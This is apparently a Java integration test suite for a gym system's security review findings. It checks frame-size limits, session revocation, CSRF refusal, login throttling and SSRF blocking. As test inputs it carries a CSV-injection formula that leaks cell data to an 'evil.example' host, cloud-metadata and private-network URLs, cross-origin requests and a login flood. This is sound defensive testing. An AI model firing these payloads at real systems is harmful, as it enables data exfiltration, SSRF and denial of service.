package org.avgym.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.JsonObject;
import java.net.URL;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.avgym.it.Api;
import org.avgym.it.Deployments;
import org.avgym.it.Fixtures;
import org.avgym.it.RawWebSocket;
import org.avgym.it.TestDatabase;
import org.avgym.it.WsClient;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The findings of the security review (issue 12), each proven against the running server with real
 * clients: raw WebSocket frames, form logins with cookies, cross-site requests.
 */
@ExtendWith(ArquillianExtension.class)
class SecurityIT {

  static final Duration WAIT = Duration.ofSeconds(15);
  static final String PUBLIC_URL = "https://gym.example.test/";

  @ArquillianResource URL base;

  @Deployment(testable = false)
  static WebArchive deployment() {
    Map<String, String> settings = TestDatabase.configured();
    // An HTTPS public URL (TLS ended by a proxy): HSTS and a Secure session cookie.
    settings.put("avgym.public-url", PUBLIC_URL);
    // Throttling small enough to reach in a test; each test throttles addresses of its own,
    // named in X-Forwarded-For, which counts because loopback is the trusted proxy here.
    settings.put("avgym.security.trusted-proxies", "127.0.0.1");
    settings.put("avgym.security.login.user.free-failures", "3");
    settings.put("avgym.security.login.user.lock-after", "5");
    settings.put("avgym.security.login.address.free-failures", "6");
    settings.put("avgym.security.login.address.lock-after", "10");
    settings.put("avgym.security.login.backoff-base-ms", "200");
    settings.put("avgym.security.login.backoff-max-seconds", "1");
    settings.put("avgym.security.login.lock-seconds", "600");
    settings.put("avgym.security.hash-concurrency", "1");
    settings.put("avgym.security.hash-wait-ms", "250");
    settings.put("avgym.live.max-sessions-per-user", "3");
    return Deployments.avgym(settings);
  }

  private Api admin() {
    return Api.at(base).as(Deployments.ADMIN, Deployments.ADMIN_PASSWORD);
  }

  private Fixtures fixtures() {
    return new Fixtures(admin());
  }

  private String ownOrigin() {
    return base.getProtocol() + "://" + base.getHost() + ":" + base.getPort();
  }

  // Finding 1: the size limit holds for single frames, not only for fragments.

  @Test
  void aSingleFrameOverTheLimitIsRefusedWith1009NotParsed() {
    Fixtures.DeviceKey device = fixtures().device(fixtures().location(5));
    try (RawWebSocket raw = deviceSocket(device)) {
      raw.sendText("{\"type\":\"ping\",\"id\":\"" + "x".repeat(17 * 1024) + "\"}");
      assertNull(raw.nextText(Duration.ofSeconds(2)), "no answer to an oversize frame");
      assertEquals(1009, raw.awaitClose(WAIT));
    }
  }

  @Test
  void aTwoMegabyteFrameIsCutOffWhileItArrivesOnEveryEndpoint() {
    byte[] huge = ("{\"type\":\"ping\",\"id\":\"" + "x".repeat(2_000_000) + "\"}").getBytes();
    Fixtures.DeviceKey device = fixtures().device(fixtures().location(5));
    try (RawWebSocket raw = deviceSocket(device)) {
      raw.send(true, RawWebSocket.TEXT, huge);
      assertNull(raw.nextText(Duration.ofSeconds(2)), "the frame was parsed and answered");
      int code = raw.awaitClose(WAIT);
      assertTrue(code == 1009 || code == 1011 || code == -1, "closed, not served: " + code);
    }
    // Before authentication: no credentials on the live channel.
    try (RawWebSocket raw = RawWebSocket.open(WsClient.ws(base, "/ws/live"), Map.of())) {
      assertTrue(raw.upgraded(), raw.status());
      raw.send(true, RawWebSocket.TEXT, huge);
      assertNull(raw.nextText(Duration.ofSeconds(2)));
      raw.awaitClose(WAIT);
    }
    // The server is fine: a device gets its pong.
    try (WsClient door = WsClient.device(base, device.token(), WAIT)) {
      door.send("{\"type\":\"ping\",\"id\":\"after-huge\"}");
      assertEquals("after-huge", door.nextOfType("pong", WAIT).getString("id"));
    }
  }

  @Test
  void theLiveChannelRefusesOversizeFramesAndFragmentsWith1009() {
    Fixtures.DeviceKey signage = fixtures().device(fixtures().location(5));
    String big = "{\"type\":\"subscribe\",\"topics\":[\"" + "x".repeat(9 * 1024) + "\"]}";
    try (RawWebSocket raw =
        RawWebSocket.open(
            WsClient.ws(base, "/ws/live"), Map.of("Authorization", "Bearer " + signage.token()))) {
      raw.sendText(big);
      assertEquals(1009, raw.awaitClose(WAIT));
    }
    try (RawWebSocket raw =
        RawWebSocket.open(
            WsClient.ws(base, "/ws/live"), Map.of("Authorization", "Bearer " + signage.token()))) {
      byte[] bytes = big.getBytes(StandardCharsets.UTF_8);
      int half = bytes.length / 2;
      raw.send(false, RawWebSocket.TEXT, java.util.Arrays.copyOfRange(bytes, 0, half));
      raw.send(
          true, RawWebSocket.CONTINUATION, java.util.Arrays.copyOfRange(bytes, half, bytes.length));
      assertEquals(1009, raw.awaitClose(WAIT));
    }
  }

  private RawWebSocket deviceSocket(Fixtures.DeviceKey device) {
    RawWebSocket raw =
        RawWebSocket.open(
            WsClient.ws(base, "/ws/devices"), Map.of("Authorization", "Bearer " + device.token()));
    assertTrue(raw.upgraded(), raw.status());
    assertTrue(raw.nextText(WAIT).contains("\"welcome\""));
    return raw;
  }

  // Finding 3: a change of access ends what was opened with the old one.

  @Test
  void disablingDemotingOrANewPasswordEndsTheSessionAndTheLiveSubscriptions() {
    for (String change :
        List.of(
            "{\"role\":\"STAFF\"}", "{\"enabled\":false}", "{\"password\":\"a-new-password-2\"}")) {
      String name = Fixtures.unique("boss");
      long id = staffUser(name, "boss-password-1", "ADMIN");
      String cookie = Api.at(base).formLogin(name, "boss-password-1");
      assertEquals(200, withCookie(cookie, "/api/staff-users").statusCode());
      try (WsClient live =
          WsClient.connect(
              WsClient.ws(base, "/ws/live"), Map.of("Cookie", cookie, "Origin", ownOrigin()))) {
        live.send("{\"type\":\"subscribe\",\"topics\":[\"alerts\"]}");
        live.nextOfType("subscribed", WAIT);

        assertEquals(200, admin().patch("/api/staff-users/" + id, change).statusCode(), change);

        HttpResponse<String> after = withCookie(cookie, "/api/staff-users");
        assertEquals(401, after.statusCode(), change + ": " + after.body());
        assertEquals(1008, live.awaitClose(WAIT).code(), change);
      }
    }
  }

  @Test
  void revokingADeviceClosesItsLiveSessionAndItsTokenSeesOccupancyOnly() {
    Fixtures.DeviceKey signage = fixtures().device(fixtures().location(5));
    try (WsClient live =
        WsClient.connect(
            WsClient.ws(base, "/ws/live"), Map.of("Authorization", "Bearer " + signage.token()))) {
      live.send("{\"type\":\"subscribe\",\"topics\":[\"checkins\",\"occupancy\"]}");
      JsonObject refused = live.nextOfType("error", WAIT);
      assertEquals("FORBIDDEN_TOPIC", refused.getString("code"));
      live.send("{\"type\":\"subscribe\",\"topics\":[\"occupancy\"]}");
      live.nextOfType("subscribed", WAIT);

      assertEquals(200, admin().post("/api/devices/" + signage.id() + "/rotate", "").statusCode());
      WsClient.Closed closed = live.awaitClose(WAIT);
      assertEquals(1008, closed.code());
      assertEquals("revoked", closed.reason());
    }
  }

  private long staffUser(String name, String password, String role) {
    return fixtures().staffUser(name, password, role).getJsonNumber("id").longValue();
  }

  private HttpResponse<String> withCookie(String cookie, String path) {
    Api anonymous = Api.at(base);
    return anonymous.send(anonymous.request(path).header("Cookie", cookie).GET().build());
  }

  // Finding 4: cross-site requests with the session cookie.

  @Test
  void aCrossOriginPostWithTheSessionCookieIsRefusedAndChangesNothing() {
    Fixtures.DeviceKey device = fixtures().device(fixtures().location(5));
    HttpResponse<String> login =
        Api.at(base).loginForm(Deployments.ADMIN, Deployments.ADMIN_PASSWORD);
    String setCookie =
        login.headers().allValues("Set-Cookie").stream()
            .filter(c -> c.startsWith("JSESSIONID="))
            .findFirst()
            .orElseThrow();
    assertTrue(setCookie.toLowerCase().contains("samesite=lax"), setCookie);
    assertTrue(setCookie.toLowerCase().contains("httponly"), setCookie);
    assertTrue(setCookie.toLowerCase().contains("secure"), setCookie);
    String cookie = Api.cookie(login);
    String rotate = "/api/devices/" + device.id() + "/rotate";

    List<HttpResponse<String>> refused = new ArrayList<>();
    refused.add(post(rotate, Map.of("Cookie", cookie, "Origin", "http://evil.example")));
    refused.add(post(rotate, Map.of("Cookie", cookie, "Origin", "null")));
    refused.add(post(rotate, Map.of("Cookie", cookie, "Referer", "http://evil.example/x")));
    refused.add(post(rotate, Map.of("Cookie", cookie)));
    refused.add(
        post(
            rotate,
            Map.of(
                "Authorization",
                Api.basic(Deployments.ADMIN, Deployments.ADMIN_PASSWORD),
                "Origin",
                "http://evil.example")));
    for (HttpResponse<String> response : refused) {
      assertEquals(403, response.statusCode(), response.request().headers().toString());
      assertTrue(response.body().contains("\"status\":403"), response.body());
    }
    // Nothing changed: the device's token still works.
    try (WsClient door = WsClient.device(base, device.token(), WAIT)) {
      door.send("{\"type\":\"ping\",\"id\":\"still-valid\"}");
      door.nextOfType("pong", WAIT);
    }
    assertEquals(200, post(rotate, Map.of("Cookie", cookie, "Origin", ownOrigin())).statusCode());
    assertEquals(
        200,
        post(rotate, Map.of("Cookie", cookie, "Referer", ownOrigin() + "/index.xhtml"))
            .statusCode());
    assertEquals(
        200,
        post(
                rotate,
                Map.of("Authorization", Api.basic(Deployments.ADMIN, Deployments.ADMIN_PASSWORD)))
            .statusCode());
  }

  private HttpResponse<String> post(String path, Map<String, String> headers) {
    Api anonymous = Api.at(base);
    HttpRequest.Builder request = anonymous.request(path).POST(HttpRequest.BodyPublishers.noBody());
    headers.forEach(request::header);
    return anonymous.send(request.build());
  }

  // Finding 5: what anyone can type reaches CSV exports as text, never as a formula.

  @Test
  void aFormulaTypedAsALoginNameIsNeutralisedInTheCsvExport() throws InterruptedException {
    String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"" + Fixtures.unique("x") + "\")";
    assertEquals(200, Api.at(base).loginForm(formula, "wrong-password").statusCode());
    String csv = "";
    for (int i = 0; i < 20 && !csv.contains("HYPERLINK"); i++) {
      admin().post("/api/analytics/events/flush", "");
      csv = admin().get("/api/analytics/export?kind=events&format=csv").body();
      if (!csv.contains("HYPERLINK")) {
        Thread.sleep(500);
      }
    }
    assertTrue(csv.contains("\"'=HYPERLINK("), csv);
    assertFalse(csv.contains(",=HYPERLINK") || csv.contains(",\"=HYPERLINK"), csv);
  }

  // Finding 6: headers.

  @Test
  void everyResponseCarriesTheProtectiveHeaders() {
    for (HttpResponse<String> response :
        List.of(Api.at(base).get("/login.xhtml"), admin().get("/api/locations"))) {
      String csp = String.join("; ", response.headers().allValues("Content-Security-Policy"));
      for (String directive :
          List.of(
              "frame-ancestors 'none'",
              "object-src 'none'",
              "base-uri 'self'",
              "form-action 'self'")) {
        assertTrue(csp.contains(directive), response.uri() + ": " + csp);
      }
      assertEquals("nosniff", header(response, "X-Content-Type-Options"));
      assertEquals("same-origin", header(response, "Referrer-Policy"));
      assertEquals("DENY", header(response, "X-Frame-Options"));
      assertNotNull(header(response, "Strict-Transport-Security"), response.uri().toString());
    }
    assertTrue(
        String.join(
                " ",
                Api.at(base).get("/login.xhtml").headers().allValues("Content-Security-Policy"))
            .contains("script-src 'self' 'nonce-"));
    assertEquals("no-store", header(admin().get("/api/locations"), "Cache-Control"));
  }

  private static String header(HttpResponse<String> response, String name) {
    return response.headers().firstValue(name).orElse(null);
  }

  // Finding 2: throttling.

  private HttpResponse<String> basicFrom(
      String address, String user, String password, String path) {
    Api api = Api.at(base).as(user, password);
    return api.send(api.request(path).header("X-Forwarded-For", address).GET().build());
  }

  @Test
  void repeatedWrongPasswordsAreSlowedThenLockedWith429AndRetryAfter() throws Exception {
    String name = Fixtures.unique("guessed");
    staffUser(name, "right-password-1", "STAFF");
    String address = "203.0.113.10";
    for (int i = 1; i <= 3; i++) {
      assertEquals(401, basicFrom(address, name, "wrong-" + i, "/api/locations").statusCode());
    }
    HttpResponse<String> slowed = basicFrom(address, name, "wrong-4", "/api/locations");
    assertEquals(429, slowed.statusCode(), slowed.body());
    assertEquals("1", header(slowed, "Retry-After"));
    assertTrue(slowed.body().contains("\"status\":429"), slowed.body());
    Thread.sleep(300);
    assertEquals(401, basicFrom(address, name, "wrong-4", "/api/locations").statusCode());
    Thread.sleep(500);
    assertEquals(401, basicFrom(address, name, "wrong-5", "/api/locations").statusCode());

    // Locked: the right password is refused too, from any address, without a password check.
    HttpResponse<String> locked =
        basicFrom("203.0.113.11", name, "right-password-1", "/api/locations");
    assertEquals(429, locked.statusCode(), locked.body());
    assertTrue(Long.parseLong(header(locked, "Retry-After")) > 500, header(locked, "Retry-After"));
    HttpResponse<String> page = Api.at(base).loginForm(name, "right-password-1");
    assertEquals(200, page.statusCode());
    assertTrue(page.body().contains("Too many failed sign-ins"), page.body());

    Api anonymous = Api.at(base);
    org.avgym.it.Prometheus metrics =
        org.avgym.it.Prometheus.parse(
            anonymous
                .send(
                    anonymous
                        .request("/metrics?scope=application")
                        .setHeader("Accept", "text/plain")
                        .GET()
                        .build())
                .body());
    assertTrue(
        metrics.value("avgym_login_throttled_total", "channel", "basic", "reason", "failures")
            >= 2);
    assertTrue(metrics.value("avgym_login_lockouts_total", "kind", "user") >= 1);
    assertTrue(events().contains("login.locked," + name), "an analytics event for the lock");
  }

  @Test
  void manyNamesFromOneAddressAreThrottledButOtherAddressesAreNot() {
    String address = "203.0.113.20";
    for (int i = 1; i <= 6; i++) {
      assertEquals(
          401,
          basicFrom(address, Fixtures.unique("nobody"), "guess", "/api/locations").statusCode());
    }
    assertEquals(
        429,
        basicFrom(address, Deployments.ADMIN, Deployments.ADMIN_PASSWORD, "/api/locations")
            .statusCode());
    assertEquals(200, admin().get("/api/locations").statusCode(), "loopback is another address");
  }

  @Test
  void aFloodOfBogusLoginsIsAnswered503WhileDevicesAreServed() throws Exception {
    Fixtures.DeviceKey device = fixtures().device(fixtures().location(5));
    java.util.concurrent.ExecutorService flood =
        java.util.concurrent.Executors.newFixedThreadPool(12);
    try (WsClient door = WsClient.device(base, device.token(), WAIT)) {
      List<java.util.concurrent.Future<HttpResponse<String>>> answers = new ArrayList<>();
      for (int i = 0; i < 36; i++) {
        String address = "198.51.100." + i;
        answers.add(
            flood.submit(
                () -> basicFrom(address, Fixtures.unique("flood"), "guess", "/api/locations")));
      }
      for (int i = 0; i < 10; i++) {
        door.send("{\"type\":\"ping\",\"id\":\"flood-" + i + "\"}");
        assertEquals("flood-" + i, door.nextOfType("pong", WAIT).getString("id"));
      }
      int busy = 0;
      for (java.util.concurrent.Future<HttpResponse<String>> answer : answers) {
        HttpResponse<String> response = answer.get(60, java.util.concurrent.TimeUnit.SECONDS);
        assertTrue(
            response.statusCode() == 401 || response.statusCode() == 503,
            response.statusCode() + " " + response.body());
        if (response.statusCode() == 503) {
          busy++;
          assertEquals("1", header(response, "Retry-After"));
        }
      }
      assertTrue(busy > 0, "one password check at a time: some of 36 at once must be refused");
    } finally {
      flood.shutdownNow();
    }
  }

  private String events() {
    admin().post("/api/analytics/events/flush", "");
    return admin().get("/api/analytics/export?kind=events&format=csv").body();
  }

  // Finding 7: the simulator only where it is asked for.

  @Test
  void theSimulatedGatewayIsAbsentUnlessTurnedOn() {
    try (RawWebSocket raw = RawWebSocket.open(WsClient.ws(base, "/ws/sim/gateway"), Map.of())) {
      assertFalse(raw.upgraded(), raw.status());
      assertTrue(raw.status().contains("404"), raw.status());
    }
    assertEquals(404, admin().get("/api/pools/_simulator").statusCode());
  }

  // Finding 8: where pools may connect.

  @Test
  void poolUrlsToMetadataPrivateNetworksOrWithCredentialsAreRefused() {
    for (String url :
        List.of(
            "ws://169.254.169.254/latest/meta-data",
            "ws://[fd00:ec2::254]/x",
            "ws://10.0.0.5/events",
            "ws://admin:secret@gw.example.com/events")) {
      HttpResponse<String> refused =
          admin()
              .post(
                  "/api/pools",
                  "{\"name\":\""
                      + Fixtures.unique("ssrf")
                      + "\",\"endpoints\":[{\"url\":\""
                      + url
                      + "\"}]}");
      assertEquals(400, refused.statusCode(), url + ": " + refused.body());
      assertTrue(refused.body().contains("endpoints[0].url"), refused.body());
    }
  }

  @Test
  void staffSeePoolUrlsWithoutTheirQueryValues() {
    String pool = Fixtures.unique("tokens");
    String url = "ws://127.0.0.1:1/events?token=s3cret-" + pool;
    HttpResponse<String> created =
        admin()
            .post(
                "/api/pools",
                "{\"name\":\"" + pool + "\",\"endpoints\":[{\"url\":\"" + url + "\"}]}");
    assertEquals(201, created.statusCode(), created.body());
    try {
      String staff = Fixtures.unique("desk");
      staffUser(staff, "desk-password-1", "STAFF");
      HttpResponse<String> seen =
          Api.at(base).as(staff, "desk-password-1").get("/api/pools/" + pool);
      assertEquals(200, seen.statusCode(), seen.body());
      assertFalse(seen.body().contains("s3cret"), seen.body());
      assertTrue(seen.body().contains("token=…"), seen.body());
      assertTrue(
          admin().get("/api/pools/" + pool).body().contains("s3cret"), "admins see it whole");
      assertFalse(events().contains("s3cret"), "events carry no token");
    } finally {
      admin().delete("/api/pools/" + pool);
    }
  }

  // Finding 9: one session per device, a bounded number of live sessions per user.

  @Test
  void aDevicesNewSessionReplacesItsOlderOne() {
    Fixtures.DeviceKey device = fixtures().device(fixtures().location(5));
    try (WsClient first = WsClient.device(base, device.token(), WAIT);
        WsClient second = WsClient.device(base, device.token(), WAIT)) {
      WsClient.Closed closed = first.awaitClose(WAIT);
      assertEquals(1008, closed.code());
      assertEquals("replaced", closed.reason());
      second.send("{\"type\":\"ping\",\"id\":\"newest\"}");
      assertEquals("newest", second.nextOfType("pong", WAIT).getString("id"));
    }
  }

  @Test
  void aUserHoldsABoundedNumberOfLiveSessions() {
    String name = Fixtures.unique("watcher");
    staffUser(name, "watcher-password-1", "STAFF");
    String basic = Api.basic(name, "watcher-password-1");
    List<WsClient> open = new ArrayList<>();
    try {
      for (int i = 0; i < 3; i++) {
        open.add(WsClient.subscribed(base, basic, WAIT, "occupancy"));
      }
      try (WsClient fourth =
          WsClient.connect(WsClient.ws(base, "/ws/live"), Map.of("Authorization", basic))) {
        WsClient.Closed closed = fourth.awaitClose(WAIT);
        assertEquals(1008, closed.code());
        assertEquals("too many sessions", closed.reason());
      }
      open.remove(0).closeNormally(WAIT);
      open.add(WsClient.subscribed(base, basic, WAIT, "occupancy"));
    } finally {
      open.forEach(WsClient::close);
    }
  }

  // Finding 10: smaller ones.

  @Test
  void anAnonymousVisitToTheLoginPageCreatesNoSession() {
    HttpResponse<String> page = Api.at(base).get("/login.xhtml");
    assertEquals(200, page.statusCode());
    assertEquals("", Api.cookie(page), page.headers().map().toString());
  }

  @Test
  void aGeneratedPasswordMustBeChangedBeforeAnythingElse() {
    org.junit.jupiter.api.Assumptions.assumeTrue(
        TestDatabase.postgresUrl().isPresent(), "needs PostgreSQL (avgym.test.db.url)");
    String name = Fixtures.unique("first");
    staffUser(name, "generated-pass-1", "ADMIN");
    // As InitialAdmin leaves a generated administrator.
    assertEquals(
        1,
        TestDatabase.update(
            "UPDATE staff_user SET password_change_required = TRUE WHERE username = ?", name));

    HttpResponse<String> login = Api.at(base).loginForm(name, "generated-pass-1");
    assertEquals(302, login.statusCode(), login.body());
    String cookie = Api.cookie(login);
    HttpResponse<String> index = withCookie(cookie, "/index.xhtml");
    assertEquals(302, index.statusCode());
    assertTrue(header(index, "Location").endsWith("/password.xhtml"), header(index, "Location"));
    HttpResponse<String> api = withCookie(cookie, "/api/staff-users");
    assertEquals(403, api.statusCode(), api.body());
    HttpResponse<String> basic = Api.at(base).as(name, "generated-pass-1").get("/api/locations");
    assertEquals(403, basic.statusCode(), basic.body());
    assertTrue(basic.body().contains("must be changed"), basic.body());

    HttpResponse<String> mismatch =
        changePassword(cookie, "generated-pass-1", "my-own-pass-12", "other-pass-12");
    assertEquals(200, mismatch.statusCode());
    assertTrue(mismatch.body().contains("The two new passwords differ."), mismatch.body());
    HttpResponse<String> changed =
        changePassword(cookie, "generated-pass-1", "my-own-pass-12", "my-own-pass-12");
    assertEquals(302, changed.statusCode(), changed.body());
    assertTrue(header(changed, "Location").contains("login.xhtml?passwordChanged=true"));
    assertEquals(200, Api.at(base).as(name, "my-own-pass-12").get("/api/staff-users").statusCode());
    assertEquals(
        401, Api.at(base).as(name, "generated-pass-1").get("/api/staff-users").statusCode());
    assertEquals(401, withCookie(cookie, "/api/staff-users").statusCode(), "the old session ended");
  }

  private HttpResponse<String> changePassword(
      String cookie, String current, String chosen, String repeated) {
    return Api.at(base)
        .submit(
            "/password.xhtml",
            cookie,
            "password",
            Map.of("current", current, "chosen", chosen, "repeated", repeated),
            "submit");
  }
}
